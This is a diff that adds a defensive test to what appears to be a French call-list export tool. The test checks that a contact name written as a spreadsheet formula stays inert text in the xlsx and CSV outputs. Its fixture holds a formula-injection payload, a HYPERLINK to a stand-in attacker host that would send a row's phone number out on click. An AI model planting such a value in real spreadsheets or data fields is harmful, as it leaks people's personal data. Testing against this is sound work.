@@ -327,3 +327,24 @@ def test_followups_are_refused_once_the_exchange_has_expired(make_world) -> None
             out_dir=world.out_dir,
             now=NOW + dt.timedelta(days=400),
         )
+
+
+def test_a_name_written_as_a_formula_stays_text_in_the_call_lists(make_world) -> None:
+    world = make_world()
+    flags = flags_frame([flag(1, "impaye_locatif")])
+    run_id = world.store_run(flags)
+    # A directory entry typed by a person: in Excel, this would send the row's phone away on a click.
+    formula = '=HYPERLINK("https://attaquant.example/?"&F2,"Voir la fiche")'
+    world.store_contacts(flags["id_foyer"].to_list(), nom=formula)
+    campaign = replace(campaign_71(), temoin=campaign_71().temoin.model_copy(update={"part": 0.0}))
+
+    report = launch_campaign(world.env, campaign, run_id, out_dir=world.out_dir, now=NOW)
+
+    outputs = {o.path.suffix: o.path for o in report.attempts[0].outputs}
+    sheet = openpyxl.load_workbook(outputs[".xlsx"]).active
+    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value == formula]
+    assert len(cells) == 1 and cells[0].data_type == "s"  # the exact name, as text
+    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
+    rows = outputs[".csv"].read_text(encoding="utf-8")
+    assert f"'{formula}".replace('"', '""') in rows and ";=HYPERLINK" not in rows
+    assert ";+33612000000;" in rows  # a phone number is a signed number, not marked
